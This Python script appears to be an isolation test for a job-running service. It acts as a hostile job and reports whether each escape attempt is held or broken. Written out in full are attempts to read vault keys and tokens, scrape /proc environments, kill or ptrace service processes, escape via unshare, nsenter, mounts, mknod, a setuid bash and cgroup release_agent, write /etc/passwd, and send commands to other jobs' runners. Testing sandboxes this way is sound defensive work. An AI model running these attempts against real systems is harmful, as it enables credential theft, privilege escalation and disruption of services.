"""What a hostile job tries. Runs as a job, by any Python 3; knows of the service only what ``$TARGETS`` says (JSON).

Prints one line for each attempt: ``held NAME: how it was refused`` or ``BROKEN NAME: what was gained``.
"""

from __future__ import annotations

import ctypes
import glob
import json
import os
import socket
import stat
import subprocess
import urllib.request
from collections.abc import Callable

TARGETS = json.loads(os.environ["TARGETS"])
LIBC = ctypes.CDLL(None, use_errno=True)
ATTEMPTS: list[tuple[str, Callable[[], str]]] = []

Attempt = Callable[[], str]


def attempt(function: Attempt) -> Attempt:
    """What returns text has gained it; nothing, or an error, is a refusal."""
    ATTEMPTS.append((function.__name__, function))
    return function


def checked(result: int, what: str) -> str:
    """A system call's result: text when it worked."""
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, f"{what}: {os.strerror(number)}")
    return f"{what} worked"


def shell(command: str) -> str:
    """What a command prints that begins with GAINED."""
    done = subprocess.run(["bash", "-c", command], capture_output=True, text=True, timeout=20, stdin=subprocess.DEVNULL)
    return "; ".join(line for line in done.stdout.splitlines() if line.startswith("GAINED"))


def readable(paths: list[str]) -> str:
    gained = []
    for path in paths:
        try:
            if os.path.isdir(path):
                gained += [f"{path}: {os.listdir(path)[:3]}"] if os.listdir(path) else []
            else:
                with open(path, "rb") as file:
                    gained.append(f"{path}: {file.read(20)!r}")
        except OSError:
            continue
    return "; ".join(gained)


@attempt
def read_the_services_secrets() -> str:
    names = ("trainshed.db", "trainshed.db-wal", "vault.key", "admin.token", "service.json", "isolation.json")
    return readable([f"{TARGETS['home']}/{name}" for name in names])


@attempt
def read_the_services_folders() -> str:
    names = ("storage", "storage/acct/files/share/secret", "engine", "engine/local/attempts", "code", "logs", "nodes/.")
    mine = set(os.environ.get("AZ_BATCHAI_JOB_TEMP_DIR", os.environ["HOME"]).split("/"))
    found = readable([f"{TARGETS['home']}/{name}" for name in names[:-1]])
    others = [name for name in os.listdir(f"{TARGETS['home']}/nodes") if name not in mine]
    return found + (f"nodes {others}" if others else "")


@attempt
def read_another_workspaces_outputs() -> str:
    return readable(TARGETS["foreign"])


@attempt
def read_through_proc() -> str:
    roots = [f"/proc/{pid}/{name}" for pid in (1, *TARGETS["pids"]) for name in ("root", "cwd")]
    paths = [f"{root}{path}" for root in roots for path in (f"{TARGETS['home']}/vault.key", "/root")]
    paths += [f"/proc/{pid}/{name}" for pid in (1, *TARGETS["pids"]) for name in ("environ", "maps", "mem", "fd")]
    return readable(paths)


@attempt
def see_processes_of_others() -> str:
    me = os.getuid()
    pids = [pid for pid in os.listdir("/proc") if pid.isdigit() and os.stat(f"/proc/{pid}").st_uid != me]
    return f"processes {pids}" if pids else ""


@attempt
def find_a_secret_in_any_environment() -> str:
    gained = []
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as file:
                text = file.read()
        except OSError:
            continue
        if TARGETS["marker"].encode() in text and b"TARGETS=" not in text:
            gained.append(path)
    return " ".join(gained)


@attempt
def signal_service_and_daemon() -> str:
    gained = []
    for pid in TARGETS["pids"]:
        try:
            os.kill(pid, 9)
            gained.append(str(pid))
        except OSError:
            continue
    return " ".join(gained)


@attempt
def signal_the_keeper() -> str:
    os.kill(1, 10)
    return "it may be signalled"


@attempt
def trace_the_keeper() -> str:
    return checked(LIBC.ptrace(16, 1, None, None), "PTRACE_ATTACH")


@attempt
def mount_a_file_system() -> str:
    os.makedirs("/tmp/mountpoint", exist_ok=True)
    return checked(LIBC.mount(b"none", b"/tmp/mountpoint", b"tmpfs", 0, None), "mount")


@attempt
def bind_mount() -> str:
    return checked(LIBC.mount(b"/", b"/tmp/mountpoint", None, 4096, None), "bind mount")


@attempt
def uncover_the_home() -> str:
    gained = []
    for path in (TARGETS["home"], *TARGETS["above"], "/tmp"):
        if LIBC.umount2(path.encode(), 2) == 0:
            gained.append(path)
    return " ".join(gained)


@attempt
def uncover_the_home_in_a_user_namespace() -> str:
    home = TARGETS["home"]
    above = " ".join([home, *TARGETS["above"], "/tmp", "/proc", "/sys"])
    return shell(
        f"""unshare -Urmpf bash -c '
        mkdir -p /tmp/in
        for folder in {above}; do umount $folder || umount -l $folder; done
        for how in bind rbind; do mount --$how / /tmp/in && cat /tmp/in{home}/vault.key && echo GAINED $how; done
        mount -o remount,rw,bind / && touch /etc/gained && echo GAINED remount
        mount -t proc none /tmp/in && ls /tmp/in/{TARGETS["pids"][0]} && echo GAINED proc
        pivot_root / /tmp/in && echo GAINED pivot
        cat {home}/vault.key {home}/admin.token && echo GAINED key
        '"""
    )


@attempt
def enter_namespaces_of_others() -> str:
    return shell(
        "for pid in 1 %s; do for kind in m p u i n U C; do nsenter -t $pid -$kind true && echo GAINED $pid $kind; done;"
        " done" % " ".join(map(str, TARGETS["pids"]))
    )


@attempt
def make_and_open_devices() -> str:
    gained = []
    for device in (os.makedev(254, 0), os.makedev(8, 0), os.makedev(1, 1)):
        try:
            os.mknod("/tmp/device", 0o600 | stat.S_IFBLK, device)
            gained.append("mknod")
        except OSError:
            continue
    gained += [path for path in (*glob.glob("/dev/[sv]d*"), "/dev/mem", "/dev/kmsg") if os.access(path, os.W_OK)]
    return " ".join(gained) + shell("unshare -Ur mknod /tmp/device b 254 0 && echo GAINED mknod in a user namespace")


@attempt
def write_outside_of_its_directories() -> str:
    folders = ["/", "/etc", "/usr/bin", "/home", "/root", "/var", "/var/log", "/run", "/run/lock", "/opt", "/dev"]
    gained = []
    for folder in (*folders, "/dev/mqueue", TARGETS["home"], *TARGETS["above"], "/sys/fs/cgroup", "/proc/sys/kernel"):
        try:
            with open(f"{folder}/hostile", "w"):
                gained.append(folder)
        except OSError:
            continue
    return " ".join(gained)


@attempt
def write_what_all_could_read() -> str:
    gained = []
    for path in (
        "/etc/passwd",
        "/etc/hosts",
        "/proc/sys/kernel/core_pattern",
        "/proc/sysrq-trigger",
    ):
        try:
            with open(path, "a"):
                gained.append(path)
        except OSError:
            continue
    return " ".join(gained)


@attempt
def become_root() -> str:
    gained = []
    for call in (lambda: os.setuid(0), lambda: os.setresuid(0, 0, 0), lambda: os.setgroups([0]), lambda: os.setgid(0)):
        try:
            call()
            gained.append("a call")
        except OSError:
            continue
    if os.getuid() == 0 or os.geteuid() == 0:
        gained.append("root")
    return " ".join(gained)


@attempt
def become_root_by_a_program() -> str:
    return shell(
        'for how in "su -c" "sudo -n bash -c" "pkexec bash -c" "newgrp -c"; do'
        ' if [ "$($how "id -u" 2>/dev/null </dev/null)" = 0 ]; then echo GAINED $how; fi; done;'
        " cp /bin/bash /tmp/own-bash && chmod 6755 /tmp/own-bash && chown 0 /tmp/own-bash && echo GAINED chown;"
        " mount -t tmpfs none /tmp/mountpoint && echo GAINED mount"
    )


@attempt
def call_the_daemon() -> str:
    gained = []
    for path in (f"{TARGETS['home']}/engine/local/daemon.sock", *glob.glob("/tmp/trainshed-*/daemon.sock")):
        with socket.socket(socket.AF_UNIX) as line:
            try:
                line.connect(path)
                line.sendall(b'{"protocol":2}\n')
                gained.append(path)
            except OSError:
                continue
    with open("/proc/net/unix") as table:
        names = [line.split()[-1] for line in table if " @" in line]
    gained += [name for name in names if "trainshed" in name.lower()]
    return " ".join(gained)


@attempt
def call_a_runner_of_another_job() -> str:
    gained = []
    tokens = [os.environ.get("TRAINSHED_AGENT_TOKEN", ""), os.environ.get("TRAINSHED_ATTEMPT_ID", "none"), "", "0" * 32]
    for address in TARGETS["runners"]:
        for token in tokens:
            for purpose in ({"member": 1}, {"launch": b"touch /tmp/gained".hex(), "call": "1"}):
                with socket.create_connection((address, 31019), timeout=5) as line:
                    line.sendall(json.dumps({**purpose, "token": token}).encode() + b"\n")
                    line.settimeout(5)
                    try:
                        if line.recv(64):
                            gained.append(address)
                    except ConnectionError:
                        continue
    return " ".join(gained)


@attempt
def call_the_service_with_what_it_has() -> str:
    gained = []
    tokens = [value for name, value in os.environ.items() if "TOKEN" in name or "ATTEMPT" in name]
    for token in (*tokens, ""):
        request = urllib.request.Request(TARGETS["api"], headers={"Authorization": f"Bearer {token}"})
        try:
            gained.append(str(urllib.request.urlopen(request, timeout=10).status))
        except OSError:
            continue
    return " ".join(gained)


@attempt
def leave_the_control_group() -> str:
    gained = []
    for pattern in ("/sys/fs/cgroup/*", "/sys/fs/cgroup/*/trainshed*", "/sys/fs/cgroup/*/trainshed/*"):
        for folder in glob.glob(pattern):
            for name in ("cgroup.procs", "tasks", "release_agent", "notify_on_release", "pids.max", "cgroup.kill"):
                try:
                    with open(f"{folder}/{name}", "w") as file:
                        file.write(str(os.getpid()))
                    gained.append(f"{folder}/{name}")
                except OSError:
                    continue
    return " ".join(gained) + shell(
        "unshare -UrmC bash -c 'mkdir -p /tmp/cg; for kind in pids memory devices; do"
        " mount -t cgroup -o $kind none /tmp/cg || mount -t cgroup2 none /tmp/cg || continue;"
        " echo max > /tmp/cg/pids.max && echo GAINED pids.max; echo 0 > /tmp/cg/cgroup.procs && echo GAINED procs;"
        " mkdir /tmp/cg/mine && echo GAINED mkdir; echo /tmp/x > /tmp/cg/release_agent && echo GAINED release_agent;"
        " umount /tmp/cg; done'"
    )


@attempt
def raise_its_own_limits() -> str:
    return shell(
        "ulimit -Hc 1 && echo GAINED core; ulimit -Hu 1000000 && echo GAINED processes;"
        " echo -900 > /proc/self/oom_score_adj && echo GAINED oom_score_adj; renice -n -10 $$ && echo GAINED nice"
    )


def main() -> None:
    for name, function in ATTEMPTS:
        try:
            gained = function()
        except (OSError, subprocess.SubprocessError) as error:
            print(f"held {name}: {error}")
            continue
        print(f"BROKEN {name}: {gained}" if gained else f"held {name}", flush=True)
    print(f"tried {len(ATTEMPTS)}")


if __name__ == "__main__":
    main()
